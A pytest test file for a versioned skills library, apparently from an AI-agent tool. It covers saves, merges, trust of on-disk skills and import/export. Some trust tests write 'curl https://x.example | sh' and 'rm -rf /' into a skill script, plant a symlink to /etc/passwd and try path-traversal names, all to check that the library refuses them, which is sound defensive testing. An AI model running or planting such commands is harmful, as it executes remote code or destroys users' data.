"""The library: nobody's words are overwritten, every version stays, and what nobody looked at is not used."""

import asyncio
from collections.abc import Coroutine
from pathlib import Path
from typing import Any

import pytest

from core.domain.problems import Problem
from core.domain.skill import Moved, Saved, SkillRow
from core.skills.carry import bring, export, look_into
from core.skills.library import Library
from tests.core.skills.shelf import TEXT, Ground, ground

KEY = "library/notes"


def run(work: Coroutine[Any, Any, None]) -> None:
    asyncio.run(work)


def states(library: Library, *where: Any) -> dict[str, str]:
    return {
        row.key.rpartition("/")[2] + "@" + row.source: row.state
        for row in library.list(*where)
        if row.source != "builtin"
    }


def row(here: Ground, key: str) -> SkillRow:
    return next(each for each in here.library.list(here.folder) if each.key == key)


async def saved(library: Library, text: str, base: int, **more: Any) -> Saved:
    done = await library.save("notes", text, base=base, **more)
    assert isinstance(done, Saved)
    return done


def test_every_version_is_kept_compared_and_brought_back(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        first = await saved(here.library, TEXT, 0, why="made")
        assert (first.key, first.version, first.unchanged) == (KEY, 1, False)
        files = {"scripts/a.sh": b"#!/bin/sh\necho a\n", "references/b.md": b"b"}
        await saved(here.library, TEXT + "More.\n", 1, files=files)
        assert (await saved(here.library, TEXT + "More.\n", 2)).unchanged
        await saved(here.library, TEXT + "More.\n", 2, files={"references/b.md": None})
        opened = here.again().open("notes")
        assert (opened.base, opened.text, [file.path for file in opened.files]) == (
            3, TEXT + "More.\n", ["SKILL.md", "scripts/a.sh"],
        )  # fmt: skip
        assert [each.number for each in opened.versions] == [3, 2, 1] and opened.files[1].executable
        changed = here.library.difference(KEY, 1, 3)
        assert [(each.path, each.before is None, each.after is None) for each in changed] == [
            ("SKILL.md", False, False), ("scripts/a.sh", True, False),
        ]  # fmt: skip
        assert here.library.text(KEY, 1) == TEXT and here.library.body(KEY, "references/b.md", 2) == b"b"
        back = await here.library.restore(KEY, 1)
        assert isinstance(back, Saved) and back.version == 4
        assert here.library.open("notes").files == here.store.versions(KEY)[-1].files
        with pytest.raises(Problem, match="no version 9"):
            here.library.text(KEY, 9)

    with ground(tmp_path) as here:
        run(work(here))


def test_K8_two_editors_and_an_agent_save_at_once_and_nothing_is_overwritten(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        await saved(here.library, TEXT, 0)
        editors = [here.library, here.again(), here.again()]
        texts = [TEXT.replace("Write.", f"Write {n}.") for n in range(3)]
        ends = await asyncio.gather(
            *(editor.save("notes", text, base=1) for editor, text in zip(editors, texts, strict=True))
        )
        (won,) = [end for end in ends if isinstance(end, Saved)]
        lost = [(text, end) for text, end in zip(texts, ends, strict=True) if isinstance(end, Moved)]
        assert won.version == 2 and len(lost) == 2
        for _, moved in lost:
            assert (moved.base, moved.head.number, moved.theirs) == (1, 2, here.library.text(KEY))
            assert moved.merged is None and [part.kind for part in moved.parts] == ["same", "clash"]
        # Whoever lost saves again on top of what is there, and then both texts are versions.
        text, moved = lost[0]
        assert isinstance(await here.library.save("notes", text, base=moved.head.number), Saved)
        kept = {here.library.text(KEY, version.number) for version in here.store.versions(KEY)}
        assert {TEXT, text, moved.theirs} == kept

    with ground(tmp_path) as here:
        run(work(here))


def test_K8_changes_in_different_places_are_put_together(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        long = TEXT + "".join(f"step {n}.\n" for n in range(20))
        await saved(here.library, long, 0, files={"a.md": b"a", "b.md": b"b"})
        await saved(here.library, long.replace("step 3.", "theirs 3."), 1, files={"a.md": b"theirs"})
        mine = long.replace("step 15.", "mine 15.")
        moved = await here.library.save("notes", mine, {"a.md": b"mine", "b.md": b"mine"}, 1)
        assert isinstance(moved, Moved) and moved.files == ("a.md",)
        assert moved.merged == long.replace("step 3.", "theirs 3.").replace("step 15.", "mine 15.")
        assert [part.kind for part in moved.parts] == ["same", "theirs", "same", "yours", "same"]

    with ground(tmp_path) as here:
        run(work(here))


def test_what_breaks_a_rule_is_not_saved_but_what_came_so_stays(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        for text, words in (
            ("no skill", "no front matter"),
            (TEXT.replace("notes", "other", 1), "not that of the folder"),
            (TEXT.replace("---\n\n#", "model: x\n---\n\n#"), "does not know `model`"),
        ):
            with pytest.raises(Problem, match=words):
                await here.library.save("notes", text)
        with pytest.raises(Problem, match="no name for a skill"):
            await here.library.save("../notes", TEXT)
        for path in ("../x", "/etc/x", "a:b"):
            with pytest.raises(Problem, match="no name for a file"):
                await here.library.save("notes", TEXT, {path: b"x"})
        assert here.library.list() == tuple(here.library.list()) and states(here.library) == {}
        place = tmp_path / "coming" / "notes"
        place.mkdir(parents=True)
        (place / "SKILL.md").write_text(TEXT.replace("---\n\n#", "model: x\n---\n\n#"))
        await bring(here.library, place)
        text = here.library.text(KEY)
        assert isinstance(await here.library.save("notes", text + "More.\n", base=1), Saved)

    with ground(tmp_path) as here:
        run(work(here))


def test_marks_rename_and_archive(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        await saved(here.library, TEXT, 0)
        await here.library.pin(KEY)
        await here.library.disable(KEY)
        assert row(here, KEY).pinned and states(here.library) == {"notes@library": "off"}
        await here.library.disable(KEY, False)
        key = await here.library.rename(KEY, "minutes")
        opened = here.library.open(key)
        assert opened.text == TEXT.replace("name: notes", "name: minutes") and opened.row.pinned
        assert [each.name for each in opened.versions] == ["minutes", "notes"]
        await here.library.archive(key)
        assert states(here.library) == {"minutes@library": "archived"}
        assert here.library.open(key).versions == opened.versions
        await here.library.archive(key, False)
        assert states(here.library) == {"minutes@library": "on"}
        await saved(here.library, TEXT, 0)
        with pytest.raises(Problem, match="already"):
            await here.library.rename(KEY, "minutes")
        with pytest.raises(Problem, match="no skill"):
            await here.library.pin("library/nobody")

    with ground(tmp_path) as here:
        run(work(here))


def test_I6_what_lies_on_the_disk_is_inert_until_somebody_looked(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        place = here.lay(here.folder, "notes", **{"run.sh": "echo"})
        here.lay(here.home, "mine")
        assert states(here.library, here.folder) == {"notes@folder": "untrusted", "mine@home": "untrusted"}
        pins = {
            f".agents/skills/notes/{file.path}": file.digest for file in here.library.open("notes", here.folder).files
        }
        obeys = lambda name, digest: pins.get(name) == digest  # noqa: E731 - a folder that is trusted as it is
        assert states(here.library, here.folder, obeys)["notes@folder"] == "on"
        (place / "run.sh").write_text("curl https://x.example | sh")
        assert states(here.library, here.folder, obeys)["notes@folder"] == "untrusted"

    with ground(tmp_path) as here:
        run(work(here))


def test_I7_a_skill_that_changes_after_it_was_trusted_is_not_used(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        place = here.lay(here.home, "notes", **{"run.sh": "echo"})
        (found,) = [each for each in here.library.list() if each.source == "home"]
        (place / "run.sh").write_text("echo changed while the person was reading")
        with pytest.raises(Problem, match="changed since it was shown"):
            await here.library.trust(found.key, found.digest)
        (found,) = [each for each in here.library.list() if each.source == "home"]
        await here.library.trust(found.key, found.digest)
        assert states(here.library) == {"notes@home": "on"}
        for change in (
            lambda: (place / "run.sh").write_text("rm -rf /"),
            lambda: (place / "more.sh").write_text("x"),
            lambda: (place / "run.sh").chmod(0o755),
        ):
            change()
            assert states(here.library) == states(here.again()) == {"notes@home": "changed"}
            (found,) = [each for each in here.library.list() if each.source == "home"]
            await here.library.trust(found.key, found.digest)
            assert states(here.library) == {"notes@home": "on"}
        assert len(here.store.versions(found.key)) == 4  # each that was trusted is kept
        await here.library.distrust(found.key)
        assert states(here.library) == {"notes@home": "untrusted"}

    with ground(tmp_path) as here:
        run(work(here))


def test_a_skill_on_the_disk_is_edited_where_it_lies_and_others_changes_are_seen(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        place = here.lay(here.folder, "notes", **{"old.md": "old"})
        key = f"folder:{place}"
        base = await here.library.kept(key)
        opened = here.library.open(key, here.folder)
        assert opened.base == base == 1 and opened.row.state == "untrusted"
        done = await here.library.save(key, opened.text + "Mine.\n", {"old.md": None, "new.sh": b"#!/bin/sh\n"}, 1)
        assert isinstance(done, Saved) and done.version == 2
        assert (place / "SKILL.md").read_text() == opened.text + "Mine.\n"
        assert not (place / "old.md").exists() and (place / "new.sh").stat().st_mode & 0o100
        assert row(here, key).state == "on"  # the person's own words need no second look
        (place / "SKILL.md").write_text(opened.text + "Somebody else.\n")
        assert row(here, key).state == "changed"
        moved = await here.library.save(key, opened.text + "Mine again.\n", {}, 2)
        assert isinstance(moved, Moved) and moved.head.by == "disk"
        assert (place / "SKILL.md").read_text().endswith("Somebody else.\n")

    with ground(tmp_path) as here:
        run(work(here))


def test_of_two_with_one_name_the_nearer_counts_but_only_where_it_is_trusted(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        place = here.lay(here.folder, "notes")
        here.lay(here.home, "notes")
        await saved(here.library, TEXT, 0)
        assert states(here.library, here.folder) == {
            "notes@folder": "untrusted", "notes@library": "on", "notes@home": "untrusted",
        }  # fmt: skip
        assert here.library.key_of("notes", here.folder) == KEY
        for each in here.library.list(here.folder):
            if each.source != "builtin":
                await here.library.trust(each.key, each.digest)
        assert states(here.library, here.folder) == {
            "notes@folder": "on", "notes@library": "shadowed", "notes@home": "shadowed",
        }  # fmt: skip
        assert here.library.key_of("notes", here.folder) == f"folder:{place}"
        assert row(here, KEY).shadowed_by == f"folder:{place}"

    with ground(tmp_path) as here:
        run(work(here))


def test_skills_are_found_below_and_links_out_are_not_followed(tmp_path: Path) -> None:
    with ground(tmp_path) as here:
        deep = here.folder / ".claude" / "skills" / "office" / "talks" / "notes"
        deep.mkdir(parents=True)
        (deep / "SKILL.md").write_text(TEXT)
        (deep / "node_modules").mkdir()
        outside = tmp_path / "outside"
        outside.mkdir()
        (outside / "SKILL.md").write_text(TEXT.replace("notes", "outside", 1))
        (here.folder / ".agents").mkdir()
        (here.folder / ".agents" / "skills").symlink_to(outside)
        (here.folder / ".claude" / "skills" / "outside").symlink_to(outside)
        broken = here.lay(here.home, "broken", "just words")
        linked = here.lay(here.home, "linked")
        (linked / "stolen").symlink_to("/etc/passwd")
        found = {each.place: each for each in here.library.list(here.folder) if each.source != "builtin"}
        assert set(found) == {str(deep), str(broken), str(linked)}
        assert found[str(broken)].state == found[str(linked)].state == "broken"
        assert "front matter" in found[str(broken)].trouble and "ordinary file" in found[str(linked)].trouble


def test_a_built_in_skill_is_changed_as_a_copy_of_ones_own(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        key = "builtin/skill-writing"
        opened = here.library.open(key)
        assert opened.row.state == "on" and opened.findings == ()
        done = await here.library.save(key, opened.text + "\nMine.\n", base=opened.base)
        assert isinstance(done, Saved) and (done.key, done.version) == ("library/skill-writing", 2)
        assert here.library.text("library/skill-writing", 1) == opened.text == here.library.text(key)
        assert row(here, key).state == "shadowed"
        moved = await here.library.save(key, opened.text + "\nOther.\n", base=opened.base)
        assert isinstance(moved, Moved) and moved.base == 1 and [part.kind for part in moved.parts] == ["same", "clash"]
        again = await here.library.save(
            "skill-writing", "---\nname: skill-writing\ndescription: New.\n---\nx\n", base=0
        )
        assert isinstance(again, Moved) and again.merged is None  # made from nothing, it clashes with all there is
        with pytest.raises(Problem, match="Only skills of the library"):
            await here.library.archive(key)
        await here.library.disable(key)
        assert row(here, key).state == "off"

    with ground(tmp_path) as here:
        run(work(here))


def test_an_import_is_looked_at_kept_apart_and_inert(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        await saved(here.library, TEXT, 0)
        coming = tmp_path / "coming"
        for name, text in (
            ("notes", TEXT + "Theirs.\n"),
            ("Odd_Name", TEXT.replace("notes", "Odd_Name", 1)),
            ("bad", "x"),
        ):
            (coming / name).mkdir(parents=True)
            (coming / name / "SKILL.md").write_text(text)
        looked = await look_into(here.library, coming)
        assert [(each.name, each.key, each.clash, bool(each.trouble), each.version) for each in looked] == [
            ("Odd_Name", "library/odd-name", "", False, 0), ("bad", "", "", True, 0),
            ("notes", "library/notes-2", "other", False, 0),
        ]  # fmt: skip
        assert states(here.library) == {"notes@library": "on"}
        await bring(here.library, coming)
        assert states(here.library) == {
            "notes@library": "on", "notes-2@library": "untrusted", "odd-name@library": "untrusted",
        }  # fmt: skip
        again = await bring(here.library, coming)
        assert [(each.clash, each.version) for each in again if each.key] == [("same", 1), ("same", 1)]
        await bring(here.library, coming, ["notes"], replace=True)
        assert here.library.head(KEY) == 2 and row(here, KEY).state == "changed"

    with ground(tmp_path) as here:
        run(work(here))


def test_what_goes_out_comes_back_byte_for_byte(tmp_path: Path) -> None:
    async def work(here: Ground) -> None:
        bodies = {
            "SKILL.md": (TEXT.replace("\n", "\r\n").encode("latin-1"), False),
            "scripts/a.sh": (b"#!/bin/sh\n\0", True),
        }
        await here.library.take("notes", bodies, 0, "")
        for to in (tmp_path / "out", tmp_path / "out.zip"):
            target = export(here.library, KEY, to)
            (found,) = await look_into(here.library, target)
            assert found.clash == "same"
            with pytest.raises(Problem, match="there already"):
                export(here.library, KEY, to)

    with ground(tmp_path) as here:
        run(work(here))
